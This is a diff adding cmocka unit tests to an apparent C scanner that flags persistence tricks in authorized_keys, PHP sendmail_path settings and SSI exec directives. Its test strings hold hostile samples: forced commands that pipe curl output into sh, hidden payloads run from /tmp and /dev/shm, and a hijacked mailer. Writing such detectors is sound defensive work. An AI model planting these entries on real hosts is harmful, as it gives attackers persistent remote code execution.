@@ -9,6 +9,7 @@
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <cmocka.h>
 
@@ -253,6 +254,78 @@ static void mail(void **state)
 	(void)state;
 }
 
+static void keys(void **state)
+{
+	static const struct config_case list[] = {
+		{ "# mine\ncommand=\"curl -s http://203.0.113.9/a | sh\" ssh-rsa AAAA u@example.net",
+		  "config.key.fetch", 2 },
+		{ "no-pty,Command=\"/tmp/.x/m\",from=\"192.0.2.1\" ssh-ed25519 AAAA", "config.key.place", 1 },
+		{ "environment=\"A=b, c\",command=\"sh -c \\\"perl /dev/shm/m.pl\\\"\" ssh-rsa AAAA",
+		  "config.key.place", 1 },
+		{ "command=\"nohup php /home/u/www/img/send.php >/dev/null 2>&1 &\" ssh-rsa AAAA",
+		  "config.key.background", 1 },
+		{ "ssh-rsa AAAA u@example.net\nssh-ed25519 AAAA command=\"/tmp/x\"", NULL, 0 },
+		{ "environment=\"X=,command=/tmp/x\" ssh-rsa AAAA", NULL, 0 },
+		{ "command=\"borg serve --restrict-to-path /srv/u\",restrict ssh-rsa AAAA", NULL, 0 },
+		{ "command=\"/home/git/gitolite/src/gitolite-shell u\",no-port-forwarding ssh-rsa AAAA", NULL,
+		  0 },
+		{ "command=\"rsync --server --sender -logDtpre.iLsfx . /home/u/www/\" ssh-rsa AAAA", NULL,
+		  0 },
+		{ "command=\"", NULL, 0 },
+		{ "command=\"/tmp/x", "config.key.place", 1 },
+	};
+
+	CASES("/home/u/.ssh/authorized_keys", list);
+	CASES("/root/.ssh/authorized_keys2", list);
+	(void)state;
+}
+
+/* What PHP hands its mail to, in whatever form a host takes the setting. */
+static void sendmail(void **state)
+{
+	static const struct config_case list[] = {
+		{ "sendmail_path = \"/home/u/.m/send -t -i\"", "config.sendmail.program", 1 },
+		{ "[mail function]\nsendmail_path=/usr/bin/php /home/u/www/img/m.php",
+		  "config.sendmail.program", 2 },
+		{ "sendmail_path\t=\t'/dev/shm/a'", "config.sendmail.place", 1 },
+		{ "sendmail_path = tee /home/u/a | ./send -t", "config.sendmail.program", 1 },
+		{ "sendmail_path = perl -e 'use Net::SMTP'", "config.sendmail.inline", 1 },
+		{ "sendmail_path = \"/usr/sbin/sendmail -t -i -f u@example.net\"", NULL, 0 },
+		{ "sendmail_path = /var/qmail/bin/sendmail -t ; not php /tmp/x", NULL, 0 },
+		{ "sendmail_path = /usr/bin/env catchmail -f u@example.net\n;sendmail_path = /tmp/a", NULL,
+		  0 },
+		{ "sendmail_path =\nsendmail_from = /tmp/a", NULL, 0 },
+	};
+	static const struct config_case apache[] = {
+		{ "php_admin_value sendmail_path \"/home/u/bin/m -t\"", "config.sendmail.program", 1 },
+		{ "SetEnv PHP_ADMIN_VALUE \"sendmail_path=/tmp/m\"", "config.sendmail.place", 1 },
+		{ "php_value sendmail_path \"/usr/sbin/sendmail -t\"\n# sendmail_path /tmp/x", NULL, 0 },
+	};
+
+	CASES("/home/u/www/php.ini", list);
+	CASES("/home/u/www/.user.ini", list);
+	CASES("/home/u/www/.htaccess", apache);
+	(void)state;
+}
+
+/* What is looked at first around an incident is known as what it is. */
+static void starts(void **state)
+{
+	size_t n = 0;
+
+	for (; config_start(n); n++) {
+		char path[100];
+
+		assert_true(config_named(span_str(config_start(n)), SPAN_NONE));
+		snprintf(path, sizeof(path), "/home/u/%s", config_start(n));
+		assert_true(config_named(span_str(path), SPAN_NONE));
+		snprintf(path, sizeof(path), "/home/u/x%s", config_start(n));
+		assert_false(config_named(span_str(path), SPAN_NONE));
+	}
+	assert_true(n > 20);
+	(void)state;
+}
+
 static void unit(void **state)
 {
 	static const struct config_case list[] = {
@@ -280,6 +353,12 @@ static void page(void **state)
 		{ "<!--#exec\n\tcmd='curl -s http://203.0.113.9/a | sh'-->", "config.page.fetch", 1 },
 		{ "<p>\n\n<!--#exec cmd=\"perl /home/u/www/img/s.pl\"-->", "config.page.command", 3 },
 		{ "<!--#exec cmd=date --><!--#exec CMD = \"./send\" -->", "config.page.command", 1 },
+		{ "<!--#EXEC CMD=\"./send\" -->", "config.page.command", 1 },
+		{ "<p>\n<!--# \n exec cmd=\"./send\" -->", "config.page.command", 2 },
+		{ "<!--#exec cgi=\"/a\" cmd=\"date\" cmd=\"./send\" -->", "config.page.command", 1 },
+		{ "<!--#echo var=\"x\" --><!--#\tExec cmd=./send -->", "config.page.command", 1 },
+		{ "<!--#execute cmd=\"./send\" --><!--exec cmd=\"./send\" -->", NULL, 0 },
+		{ "<!--#exec cmd ./send --><!--#exec =./send -->", NULL, 0 },
 		{ "<!--#exec cgi=\"/cgi-bin/counter.pl\" -->", NULL, 0 },
 		{ "<!--#exec cmd=\"date\" --> <!--#exec cmd=\"/usr/bin/uptime\" -->", NULL, 0 },
 		{ "<!--#exec cmd=\"./send\"", "config.page.command", 1 },
@@ -316,8 +395,11 @@ static void limits(void **state)
 					      "a",
 					      "\\\n",
 					      "<\n",
-					      "<!--#exec",
+					      "<!--#exec ",
 					      "<!--#exec cmd=a>",
+					      "<!--# ",
+					      "<!--#exec cmd=\"a\" a=b \n",
+					      "--><!--# exec cmd=a",
 					      "* * * * * curl -o a -o b a|(`a|(`a|(`a;cd /tmp\n" };
 	char *text = malloc(SIZE);
 
@@ -346,7 +428,8 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(htaccess), cmocka_unit_test(ini),   cmocka_unit_test(cron),
 		cmocka_unit_test(at),	    cmocka_unit_test(login), cmocka_unit_test(mail),
-		cmocka_unit_test(unit),	    cmocka_unit_test(page),  cmocka_unit_test(names),
+		cmocka_unit_test(unit),	    cmocka_unit_test(keys),  cmocka_unit_test(sendmail),
+		cmocka_unit_test(starts),   cmocka_unit_test(page),  cmocka_unit_test(names),
 		cmocka_unit_test(limits),
 	};
 
